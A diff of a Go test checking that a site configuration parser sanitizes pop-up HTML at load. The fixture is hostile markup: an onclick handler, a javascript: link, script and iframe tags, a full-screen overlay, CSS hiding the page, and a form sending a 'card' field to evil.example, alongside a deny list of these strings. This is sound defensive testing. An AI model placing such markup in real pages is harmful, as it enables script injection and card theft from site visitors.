@@ -106,17 +106,17 @@ func TestShownPages(t *testing.T) {
 	}
 }
 
-// The pop-up's text is cleaned at load too: what its own check lets pass
-// (no script, frame or event handler) still loses styles and foreign forms.
+// The pop-up's text is cleaned at load like all configured HTML: scripts,
+// event handlers, frames, script links, styles and forms never reach it.
 func TestPopupTextSanitizedAtLoad(t *testing.T) {
 	tree := demoTree(t)
-	set(t, tree, "popup.description.en", `<p style="position:fixed;inset:0">Ask <a href="/contact/">here</a></p><style>body{display:none}</style><form action="https://evil.example/"><input name="card"></form>`)
+	set(t, tree, "popup.description.en", `<p style="position:fixed;inset:0" onclick="x()">Ask <a href="/contact/">here</a> <a href="javascript:y()">or</a></p><script>z()</script><iframe src="https://evil.example/f"></iframe><style>body{display:none}</style><form action="https://evil.example/"><input name="card"></form>`)
 	c, err := Parse("site.json", encode(t, tree))
 	if err != nil {
 		t.Fatal(err)
 	}
 	got := c.Popup.Description["en"]
-	for _, bad := range []string{"position:fixed", "<style", "display:none", "<form", "<input", "evil.example"} {
+	for _, bad := range []string{"onclick", "javascript:", "<script", "z()", "<iframe", "position:fixed", "<style", "display:none", "<form", "<input", "evil.example"} {
 		if strings.Contains(got, bad) {
 			t.Errorf("the pop-up text keeps %q: %s", bad, got)
 		}
